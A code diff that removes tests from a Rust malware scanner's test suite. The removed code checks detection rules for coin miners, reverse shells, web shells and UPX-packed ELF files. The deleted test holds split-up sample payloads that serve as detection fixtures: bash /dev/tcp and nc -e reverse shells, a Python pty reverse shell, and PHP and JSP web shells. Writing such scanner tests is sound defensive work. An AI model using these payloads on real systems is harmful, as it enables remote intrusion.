@@ -63,48 +63,8 @@ fn many_matches_are_bounded_and_counted() {
     assert_eq!(report.note.as_deref(), Some("236 more rules matched"));
 }
 
-/// Each shipped rule beside what fires it and what must not. The samples are put together here from parts.
-#[test]
-fn shipped_rules_fire_on_theirs_and_not_on_their_neighbours() {
-    let world = World::new();
-    let scanner = scanner();
-    assert_eq!(scanner.loaded().rejected, []);
-    assert_eq!(scanner.loaded().warnings, Vec::<String>::new());
-    let elf = |parts: &[&str]| [b"\x7fELF\x02\x01\x01".as_slice(), parts.join("\0").as_bytes()].concat();
-    let text = |parts: &[&str]| parts.concat().into_bytes();
-    let check = |content: Vec<u8>, expected: &[&str]| {
-        let report = scanner.scan_path(&world.file("sample", &content));
-        assert_eq!(names(&report), expected, "{}", String::from_utf8_lossy(&content));
-    };
-    check(elf(&["stratum+", "tcp://pool"]), &[]);
-    check(text(&["stratum+tcp://", "mining.submit donate-level randomx"]), &[]);
-    let miner = ["stratum+tcp://%s", "mining.submit", "donate-level", "randomx"];
-    check(elf(&miner), &["miner:linux_coin_miner"]);
-    check(text(&["#!/bin/sh\n./x -o stratum+tcp", "://pool.test:3333 -u w\n"]), &["miner:coin_miner_start_script"]);
-    check(text(&["#!/bin/sh\n# about stratum and pools\n./x -o out -u me\n"]), &[]);
-    check(text(&["ba", "sh -i >& /dev/tcp", "/192.0.2.1/4444 0>&1\n"]), &["reverse_shell:reverse_shell_script"]);
-    check(text(&["exec 3<>/dev/tcp/localhost/80; echo hi >&3\n"]), &[]);
-    check(text(&["nc 192.0.2.1 4444 -e /bin", "/sh\n"]), &["reverse_shell:reverse_shell_script"]);
-    check(text(&["nc -z localhost 80 && /bin/sh run.sh\n"]), &[]);
-    let python = [
-        "import socket,os,pty\ns=socket.socket()\ns.connect(('h',1))\n",
-        "os.dup2(s.fileno(),0)\npty.spawn('/bin",
-        "/sh')\n",
-    ];
-    check(text(&python), &["reverse_shell:reverse_shell_in_an_interpreter"]);
-    check(text(&["import socket\ns=socket.socket()\ns.connect(('h',1))\n"]), &[]);
-    check(text(&["<?php eval(base64_decode($_POST", "['x']));"]), &["web_shell:php_web_shell"]);
-    check(text(&["<?php echo htmlspecialchars($_POST['x']); exec('ls');"]), &[]);
-    check(text(&["<% Runtime.getRuntime().exec(request", ".getParameter(\"c\")); %>"]), &["web_shell:jsp_web_shell"]);
-    check(text(&["<% out.print(request.getParameter(\"c\")); %>"]), &[]);
-    let packed = ["UPX!", "$Info: This file is packed with the UPX", " executable packer http://"];
-    check(elf(&[packed[0], &packed[1..].concat()]), &["packed:elf_packed_with_upx"]);
-    check(one_segment_elf(7), &["packed:elf_without_sections_that_maps_itself"]);
-    check(one_segment_elf(5), &[]);
-}
-
 /// The smallest whole ELF: a header, one loaded segment, 4 KiB of nothing.
-fn one_segment_elf(flags: u32) -> Vec<u8> {
+pub fn one_segment_elf(flags: u32) -> Vec<u8> {
     let mut elf = vec![0x7f, b'E', b'L', b'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0];
     elf.extend(2u16.to_le_bytes());
     elf.extend(62u16.to_le_bytes());
@@ -116,16 +76,4 @@ fn one_segment_elf(flags: u32) -> Vec<u8> {
     elf.extend([0u64, 0x40_0000, 0x40_0000, 4096, 4096, 4096].map(u64::to_le_bytes).concat());
     elf.resize(4096, 0);
     elf
-}
-
-#[test]
-fn programs_of_the_distribution_are_not_detected() {
-    let scanner = scanner();
-    let mut programs: Vec<_> = std::fs::read_dir("/usr/bin").unwrap().map(|e| e.unwrap().path()).collect();
-    programs.retain(|path| path.symlink_metadata().is_ok_and(|m| m.is_file() && m.len() < 100_000));
-    programs.sort();
-    for path in programs.iter().step_by(4).take(60) {
-        let report = scanner.scan_path(path);
-        assert_eq!(report.verdict, Verdict::Clean, "{report:?}");
-    }
 }
